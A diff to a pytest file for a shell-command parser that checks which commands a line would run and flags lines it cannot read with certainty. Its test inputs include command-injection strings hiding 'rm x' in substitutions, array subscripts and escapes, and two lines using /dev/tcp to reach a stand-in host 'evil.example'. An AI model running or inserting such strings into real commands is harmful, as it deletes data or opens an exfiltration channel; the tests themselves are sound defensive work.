@@ -45,7 +45,6 @@ def listed(text):
         "b=$(rm x) a",
         "b=$(rm x); a",
         "b=1 c=$(rm x); a",
-        "b[$(rm x)]=1 a",
         "b=(1 $(rm x)); a",
         "export b=$(rm x); a",
         "a ${b:-$(rm x)}",
@@ -76,61 +75,34 @@ def test_every_command_of_a_line_is_listed_however_it_is_reached(text):
         "rm 'unterminated",
         "r\\\nm x",
         "rm x\r\nls",
-        "aa =~\nrm x",
-        "aa in ``\nrm x",
-        "!'rm' x",
-        "1x=1 rm x",
-        "*x=1",
         "x=()rm =",
-        "a; \\ rm x",
-        "a \\ #; rm x",
-        "a ]\\  rm",
-        "b=$\nrm x",
-        "a $\nrm x",
-        "a\n\\\nrm x",
-        "a\n\\rm x",
         "a ]#\\\n \nrm x",
-        "a\n-2>&1",
         "{rm,x} \na ; }",
-        "# a \\\nrm x",
-        "a |x=1 |&local \nrm! && b",
         "x=()#b $y rm",
         "a <<-E\nE>f rm x",
-        "[ \nrm ]",
-        "[ a && rm ]",
-        "a > f }\\rm x",
-        "a --<<E\nq\nE\nrm x",
         "a <<E\nrm x",
-        "a <<E\n`rm x`\nE\n",
-        "a <<E\n $(rm x)\nE\n",
         "a <<'E'b\nq\nE\n",
         "a <<$x\nq\n$x\nrm x",
         "((rm x); a)",
         "a $((rm x); b)",
-        "echo $((1 + 2))",
-        "[[ -f x ]] && a",
-        "case y in a) a;; esac",
-        "a <<E\nq\nE\n",
         "a `b \\`rm x\\``",
         "a ${b@P}",
-        "printf -v 'a[$(rm x)]' y",
-        "read a[\\$\\(rm\\)]",
+        "b[$(rm x)]=1 a",
+        "b[ 1 ]=2 a",
+        "declare b[ 1 ]=2",
+        "b=([ 1 ]=2)",
         "[[ -v 'a[$(rm x)]' ]]",
-        'let "a[\\$(rm x)]=1"',
-        "unset 'a[''$(rm x)'']'",
         "x='a[`rm x`]'; echo $((x))",
         "cat < /dev/tcp/evil.example/80",
         "echo x > /dev/tcp/evil.example/80",
-        "exec 3<>f",
-        "a && b > out rm",
         "f() rm x",
         "x" * (MAX_COMMAND + 1),
         "\ud800",
         "(" * 200 + "a" + ")" * 200,
     ],
 )
-def test_what_a_shell_might_read_differently_is_in_doubt(text):
-    assert parse_commands(text).is_in_doubt
+def test_what_is_outside_of_the_parsed_language_is_in_doubt(text):
+    assert parse_commands(text).doubt is not None
 
 
 @pytest.mark.parametrize(
@@ -139,6 +111,9 @@ def test_what_a_shell_might_read_differently_is_in_doubt(text):
         "git status",
         "a && b | c",
         "a $x",
+        "echo $((1 + 2))",
+        "case y in a) a;; esac",
+        "a <<E\nq\nE\n",
         "for f in *.py; do black $f; done",
         "cat <<'EOF'\n$(rm x)\nEOF\n",
         "",
@@ -149,7 +124,81 @@ def test_what_a_shell_might_read_differently_is_in_doubt(text):
     ],
 )
 def test_what_is_plain_is_not_in_doubt(text):
-    assert not parse_commands(text).is_in_doubt
+    assert parse_commands(text).doubt is None
+
+
+@pytest.mark.parametrize(
+    ("text", "commands"),
+    [
+        ("aa =~\nrm x", [["aa", "=~"], ["rm", "x"]]),
+        ("aa in ``\nrm x", [["aa", "in", "``"], ["rm", "x"]]),
+        ("!'rm' x", [["!rm", "x"]]),
+        ("1x=1 rm x", [["1x=1", "rm", "x"]]),
+        ("a; \\ rm x", [["a"], [" rm", "x"]]),
+        ("a \\ #; rm x", [["a", " #"], ["rm", "x"]]),
+        ("b=$\nrm x", [["rm", "x"]]),
+        ("a $\nrm x", [["a", "$"], ["rm", "x"]]),
+        ("a\n\\\nrm x", [["a"], ["rm", "x"]]),
+        ("# a \\\nrm x", [["rm", "x"]]),
+        ("a |x=1 |&local \nrm! && b", [["a"], ["local"], ["rm!"], ["b"]]),
+        ("[ \nrm ]", [["["], ["rm", "]"]]),
+        ("[ a && rm ]", [["[", "a"], ["rm", "]"]]),
+        ("a > f }\\rm x", [["a", "}rm", "x"]]),
+        ("a --<<E\nq\nE\nrm x", [["a", "--"], ["rm", "x"]]),
+        ("a <<E\n`rm x`\nE\n", [["a"], ["rm", "x"]]),
+        ("[[ -f x ]] && a", [["[[", "-f", "x", "]]"], ["a"]]),
+        ("[[ $x =~ ^a(b|c)$ ]]", [["[[", "$x", "=~", "^a(b|c)$", "]]"]]),
+        ("case y in a|b) a;; (c) b; esac", [["a"], ["b"]]),
+        ("a && b > out rm", [["a"], ["b", "rm"]]),
+        ("for f in a b; do c $f; done", [["c", "a"], ["c", "b"]]),
+        ("x=rm; $x y", [["rm", "y"]]),
+        ("$'\\x72m' x", [["rm", "x"]]),
+        ("a {b,c}d {1..3} f{,.bak}", [["a", "bd", "cd", "1", "2", "3", "f", "f.bak"]]),
+        ("f() { rm x; }; f", [["rm", "x"]]),
+    ],
+)
+def test_text_is_parsed_as_a_shell_parses_it(text, commands):
+    assert listed(text) == commands
+    assert parse_commands(text).doubt is None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x=a; x=rm; $x y",
+        "x=a; read x; $x y",
+        "false && x=a; $x y",
+        "(x=a); $x y",
+        "x=a & $x y",
+        "x=a | b; $x y",
+        "for x in a b; do x=rm; $x y; done",
+        "(f() { a; }); f x",
+        "x=a; printf -v x rm; $x y",
+    ],
+)
+def test_a_name_that_may_have_another_value_is_not_resolved(text):
+    assert ["a", "y"] not in listed(text)
+    assert any(each.words and each.words[-1].text in ("x", "y") for each in parse_commands(text).subcommands)
+
+
+@pytest.mark.parametrize(
+    ("text", "certainty"),
+    [
+        ("a $((1 + 2))", "number"),
+        ("i=0; a $((i + 1))", "number"),
+        ("a $(nproc)", "number"),
+        ("a ${#x}", "number"),
+        ("a $HOME", "plain"),
+        ("a $PATH", "unknown"),
+        ("a $TOKEN", "inherited"),
+        ("a ${TOKEN:-x}", "inherited"),
+        ("read x; a $x", "unknown"),
+        ("a f$((1)).txt", "expands"),
+    ],
+)
+def test_the_certainty_of_a_word_is_that_of_its_values(text, certainty):
+    [last] = [each.words[1] for each in parse_commands(text).subcommands if each.name == "a"]
+    assert last.certainty.value == certainty
 
 
 def test_text_that_is_only_quoted_runs_nothing():
@@ -199,14 +248,14 @@ def test_what_a_command_sets_before_it_runs_is_told():
 
 
 def certainties(text):
-    [subcommand] = parse_commands(text).subcommands
-    return [word.certainty.value for word in subcommand.words[1:]]
+    return [word.certainty.value for word in parse_commands(text).subcommands[0].words[1:]]
 
 
 def test_a_word_is_plain_expands_or_is_unknown():
     assert certainties("a b 'c*' \"d?\" e\\* 7 {} x=y") == ["plain"] * 7
     assert certainties("a *.py ?x src/*") == ["expands", "expands", "expands"]
-    assert certainties('a $x "$x" ${x} {a,b} {1..3} $((1)) a[bc]') == ["unknown"] * 7
+    assert certainties("a a[bc] [!x]*.py") == ["expands"] * 2
+    assert certainties('a $(b) "$(b)" {a,"b"}') == ["unknown"] * 3
 
 
 simple = st.lists(
@@ -232,4 +281,4 @@ def test_commands_joined_in_any_way_are_the_same_commands(parts, data):
     # A substitution adds a word to the command it stands in, so the command found may be longer.
     found = [[word.text for word in each.words] for each in line.subcommands]
     for words, _ in parts:
-        assert line.is_in_doubt or any(each[: len(words)] == words for each in found), (text, found)
+        assert line.doubt is not None or any(each[: len(words)] == words for each in found), (text, found)
